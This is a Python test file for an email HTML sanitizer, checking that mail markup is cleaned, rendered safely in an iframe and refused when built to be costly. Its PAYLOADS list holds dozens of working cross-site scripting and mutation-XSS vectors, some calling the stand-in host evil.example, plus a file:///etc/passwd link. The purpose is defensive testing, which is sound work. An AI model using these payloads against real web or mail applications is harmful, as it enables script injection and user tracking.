"""HTML of mails: harmless whoever wrote it, still readable, and shown in a frame of its own."""

import re
import time

import pytest
from lxml import etree

from processes.mail.reading import read
from processes.mail.reading.html import (
    clean,
    has_remote_pictures,
    picture_ids,
    policy,
    shown,
)
from processes.mail.reading.html_text import text_of

PAYLOADS = [
    "<script>parent.hit=1</script>",
    "<ScRiPt >parent.hit=1</sCrIpT >",
    "<script src=https://evil.example/x.js></script>",
    "<<script>script>parent.hit=1<</script>/script>",
    "<scr<script>ipt>parent.hit=1</scr</script>ipt>",
    "<img src=x onerror=parent.hit=1>",
    '<img src="x" ONERROR="parent.hit=1">',
    "<img/src=x/onerror=parent.hit=1>",
    "<img src=`x` onerror=parent.hit=1>",
    '<img """><script>parent.hit=1</script>">',
    "<img src=javascript:parent.hit=1>",
    "<body onload=parent.hit=1>",
    "<svg onload=parent.hit=1>",
    "<svg><script>parent.hit=1</script></svg>",
    "<svg><style><img src=x onerror=parent.hit=1></style></svg>",
    "<svg><a xlink:href='javascript:parent.hit=1'><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=x&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=parent.hit=1></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=parent.hit=1>",
    "<noscript><p title='</noscript><img src=x onerror=parent.hit=1>'></noscript>",
    "<xmp><p title='</xmp><img src=x onerror=parent.hit=1>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=parent.hit=1>'></textarea>",
    "<title><p title='</title><img src=x onerror=parent.hit=1>'></title>",
    "<style><p title='</style><img src=x onerror=parent.hit=1>'></style>",
    "<template><img src=x onerror=parent.hit=1></template>",
    "<!--><img src=x onerror=parent.hit=1>-->",
    "<!--[if gte mso 9]><script>parent.hit=1</script><![endif]-->",
    "<![CDATA[<img src=x onerror=parent.hit=1>]]>",
    "<?xml version='1.0'?><script>parent.hit=1</script>",
    '<a href="javascript:parent.hit=1">klik</a>',
    '<a href="java\nscript:parent.hit=1">klik</a>',
    '<a href="&#106;avascript:parent.hit=1">klik</a>',
    '<a href=" \x01javascript:parent.hit=1">klik</a>',
    '<a href="data:text/html,<script>parent.hit=1</script>">klik</a>',
    '<a href="vbscript:x">klik</a>',
    '<a href="//evil.example">klik</a>',
    '<a href="file:///etc/passwd">klik</a>',
    '<a href="https://ok.example" onclick="parent.hit=1" style="position:fixed">klik</a>',
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/x>",
    "<base href=https://evil.example/><a href=x>klik</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';body{display:none}</style>",
    "<div style='background:url(https://evil.example/x.png)'>x</div>",
    "<table background=https://evil.example/x.png><td background=https://evil.example/y>x</table>",
    "<video src=https://evil.example/x poster=https://evil.example/y autoplay></video>",
    "<audio src=https://evil.example/x onerror=parent.hit=1 autoplay></audio>",
    "<img srcset='https://evil.example/x 1x' src=x>",
    "<picture><source srcset=https://evil.example/x><img src=https://evil.example/y></picture>",
    "<input type=image src=https://evil.example/x onfocus=parent.hit=1 autofocus>",
    "<form action=https://evil.example><button>klik</button></form>",
    "<details open ontoggle=parent.hit=1>x</details>",
    "<marquee onstart=parent.hit=1>x</marquee>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img data-remote='javascript:parent.hit=1'>",
    "<img src='https://evil.example/\"onerror=\"parent.hit=1'>",
    "<img alt='\"onerror=parent.hit=1' src='cid:a'>",
    "<img src='cid:a\" onerror=\"parent.hit=1'>",
    "<p id=hit name=hit class=x>x</p><a name=cookie id=cookie>x</a>",
    "\x00<scr\x00ipt>parent.hit=1</scr\x00ipt>",
    "+ADw-script+AD4-parent.hit=1+ADw-/script+AD4-",
]
TAGS = {"a", "b", "blockquote", "br", "div", "em", "img", "p", "span", "table", "tbody", "td", "tr"}
ATTRIBUTES = {"href", "rel", "target", "src", "data-remote", "alt", "title", "width", "height"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_acts_or_fetches_is_left(payload):
    html = clean(f"<p>Voor</p>{payload}<p>Na</p>")
    page = shown(html, pictures={"a": "/files/x"}, remote=False)
    body = page.partition("<body>")[2].partition("</body>")[0]
    for written in (html, body):
        for element in etree.HTML(f"<div>{written}</div>").iter():
            assert element.tag in TAGS | {"html", "body"}
            assert set(element.attrib) <= ATTRIBUTES
            link = element.get("href", "https://")
            assert link.startswith(("https://", "http://", "mailto:", "tel:"))
    assert "evil.example" not in re.sub(r'data-remote="https://[^"]*"', "", body)
    assert "Voor" in html


SHOW = """async document_ => {
    const frame = document.createElement('iframe');
    frame.srcdoc = document_;  // without a sandbox: the cleaning alone must do
    document.body.append(frame);
    await new Promise(done => { frame.onload = done; });
    frame.remove();
}"""


@pytest.fixture
def window(browser):
    """A page in a real browser that notes which addresses are asked for."""
    context = browser.new_context()
    page, asked = context.new_page(), []
    context.route("**/*", lambda route: (asked.append(route.request.url), route.abort()))
    page.set_content("<title>x</title>")
    yield page, asked
    context.close()


def test_in_a_real_browser_nothing_runs_and_nothing_is_asked_for(window):
    page, asked = window
    for payload in PAYLOADS:
        page.evaluate(SHOW, shown(clean(payload), pictures={}, remote=False))
    assert page.evaluate("window.hit") is None
    assert asked == []


def test_with_remote_pictures_only_pictures_are_asked_for(window):
    page, asked = window
    for payload in PAYLOADS:
        page.evaluate(SHOW, shown(clean(payload), pictures={}, remote=True))
    assert page.evaluate("window.hit") is None
    assert asked
    assert {url.partition("?")[0] for url in asked} <= {
        "https://evil.example/y",
        "https://evil.example/%22onerror=%22parent.hit=1",
    }


def test_the_browser_would_have_noticed(window):
    page, asked = window
    page.evaluate(SHOW, "<img src=https://evil.example/a onerror=parent.hit=1>")
    assert page.evaluate("window.hit") == 1
    assert asked == ["https://evil.example/a"]


def test_what_people_write_stays_as_it_was():
    html = clean(
        "<div><b>Beste</b> Ann,<br><i>dank</i></div><ul><li>een<li>twee</ul>"
        "<table><tr><td colspan=2>cel</td></tr></table><blockquote>oud</blockquote>"
        "<pre>  code</pre>"
        '<a href="https://x.example/?a=1&b=2">link</a> <a href="mailto:a@b.example">mail</a>'
    )
    assert "<b>Beste</b> Ann,<br><i>dank</i>" in html
    assert "<li>een</li><li>twee</li>" in html
    assert '<td colspan="2">cel</td>' in html
    assert "<pre>  code</pre>" in html
    link = etree.HTML(html).find(".//a")
    assert dict(link.attrib) == {
        "href": "https://x.example/?a=1&b=2",
        "target": "_blank",
        "rel": "noopener noreferrer",
    }


def test_pictures_of_the_mail_are_shown_by_their_id_and_those_that_are_missing_by_their_words():
    html = clean('<img src="cid:a@x" alt="een"><img src="CID:b@x" alt="twee">')
    page = shown(html, pictures={"a@x": "/files/abc/inline"}, remote=False)
    assert picture_ids(html) == {"a@x", "b@x"}
    assert '<img src="/files/abc/inline" alt="een">' in page
    assert "[twee]" in page
    assert "cid:" not in page


def test_pictures_of_others_wait_until_they_are_asked_for_and_come_by_https_only():
    html = clean('<img src="http://ads.example/a.png?u=1&v=2" alt="x" width="600">')
    assert has_remote_pictures(html)
    assert 'src="' not in shown(html, pictures={}, remote=False).replace("img-src", "")
    asked = shown(html, pictures={}, remote=True)
    assert '<img src="https://ads.example/a.png?u=1&amp;v=2"' in asked
    assert "img-src 'self' data: https:" in asked
    assert not has_remote_pictures(clean("<p>data-remote=</p>"))


@pytest.mark.parametrize("size", ["width=1 height=1", "height='0'", "width='2'"])
def test_pictures_too_small_to_be_seen_are_gone(size):
    assert clean(f"<p>x</p><img src='https://t.example/p.gif' {size}>") == "<p>x</p>"


def test_the_page_around_it_allows_nothing_else():
    page = shown("<p>x</p>", pictures={}, remote=False)
    assert policy(remote=False) in page
    assert policy(remote=False).startswith("default-src 'none'; img-src 'self' data:; style-src")
    assert "https:" not in policy(remote=False)


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 201 + "diep",
        "<div>" * 50_000 + "diep",
        "<b>woord</b> " * 80_000,
        "<p>" + "".join(f"<font color=c{n}>" for n in range(300)) + "<p>x" * 40_000,
        "x" * 1_000_001,
        "<" * 900_000,
        "<a href='" * 100_000,
        "<table>" * 199 + "x<i>" * 50_000,
    ],
    ids=["201 deep", "50 000 deep", "many tags", "fonts", "long", "brackets", "quotes", "tables"],
)
def test_markup_made_to_cost_is_refused_in_time(html):
    before = time.process_time()
    assert clean(html) == ""
    assert time.process_time() - before < 1


def test_two_hundred_levels_are_still_shown():
    assert clean("<div>" * 150 + "diep" + "</div>" * 150).count("<div>") == 150


def test_text_of_html_reads_like_the_page():
    raw = (
        b"From: a@b.example\nContent-Type: text/html; charset=utf-8\n\n"
        b"<html><head><title>t</title><style>x</style></head><body><h1>Kop</h1><p>Een &amp;\n twee"
        b"&nbsp;drie</p><p>Zie <a href='https://x.example/a'>hier</a> of "
        b"<a href='https://y.example'>y.example</a>.</p><table><tr><td>naam</td><td>Ann</td></tr>"
        b"<tr><td>stad</td><td>Ede</td></tr></table><pre>a\n  b</pre><ol><li>een</li></ol>"
        b"<img src=x alt=foto></body></html>"
    )
    assert read(raw).text == (
        "Kop\n\nEen & twee drie\n\nZie hier <https://x.example/a> of y.example.\n\n"
        "naam Ann\nstad Ede\n\na\n  b\n\n* een\n\n[foto]"
    )


def test_what_styles_hide_is_not_shown_unless_there_is_nothing_else():
    hidden = "<div style='display : NONE'><div>oud</div>weg</div>"
    html = f"{hidden}<p>Hallo</p><span style='mso-hide:all'>nee</span>"
    assert clean(html) == "<p>Hallo</p>"
    assert text_of(html) == "Hallo"
    assert text_of(hidden) == "oud\nweg"
    assert text_of("<style>p{color:red}</style><img src=https://x.example/a.png>") == ""
